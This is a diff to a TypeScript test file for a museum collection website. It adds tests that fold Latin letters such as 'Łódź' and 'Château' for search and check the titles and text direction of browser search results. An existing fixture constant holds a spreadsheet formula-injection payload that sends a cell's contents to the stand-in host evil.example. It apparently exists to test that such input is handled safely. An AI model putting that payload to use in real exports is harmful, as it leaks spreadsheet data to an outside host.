@@ -9,6 +9,7 @@ import type { Catalogue } from '../../pipeline/catalogue/schema.ts';
 import { memoryLogger } from '../../pipeline/log.ts';
 import { defaultParams } from '../../pipeline/params.ts';
 import { workspace } from '../../pipeline/paths.ts';
+import { fold, foldedCopy } from '../../site/src/lib/fold.ts';
 import { type FixtureObject, writeFixture } from './fixture.ts';
 import { serveSite } from './server.ts';
 
@@ -26,6 +27,18 @@ declare function getComputedStyle(e: unknown): { direction: string };
 
 const ARABIC = 'إناء فخاري من العصر العباسي';
 const UNBREAKABLE = `=HYPERLINK("http://evil.example/?x="&A1,"Click")${'x'.repeat(120)}`;
+
+describe('folding for search', () => {
+  it('folds the Latin letters Pagefind keeps apart, and leaves other scripts alone', () => {
+    expect(fold('Łódź')).toBe('Lodz');
+    expect(fold('Ørsted, Æthelred, Straße, Đakovo')).toBe('Orsted, AEthelred, Strasse, Dakovo');
+    expect(fold(ARABIC)).toBe(ARABIC);
+    expect(fold('Ἀθῆναι')).toBe('Ἀθῆναι');
+    // A copy only where Pagefind's own folding of accents is not enough.
+    expect(foldedCopy('Château')).toBe('');
+    expect(foldedCopy('Plate from Łódź')).toBe('Plate from Lodz');
+  });
+});
 
 describe('rights note', () => {
   it("keeps the museum's words only where they say more than the statement", () => {
@@ -149,5 +162,23 @@ describe('visitor details on a built site', () => {
     const unknown = await text('DM-0005');
     expect(unknown.match(/Ask the registrar/g)).toHaveLength(1);
     expect(await page.locator('#rights a[rel~="license"]').count()).toBe(0);
+  });
+
+  it('finds "Łódź" by "lodz" and by "Łódź", and "Château" by "chateau"', async () => {
+    const found = async (q: string) => {
+      await page.goto(`${site.url}browse/?q=${encodeURIComponent(q)}`);
+      await page
+        .locator('#status')
+        .filter({ hasText: /objects? for/ })
+        .waitFor();
+      const titles = await page.locator('#results .title').allTextContents();
+      const dirs = await page.locator('#results .title').evaluateAll((els) => els.map((e) => e.getAttribute('dir')));
+      expect(dirs.every((d) => d === 'auto')).toBe(true);
+      return titles;
+    };
+    expect(await found('lodz')).toEqual(['Plate from Łódź']);
+    expect(await found('Łódź')).toEqual(['Plate from Łódź']);
+    expect(await found('chateau')).toEqual(['View of the Château']);
+    expect(await found('Château')).toEqual(['View of the Château']);
   });
 });
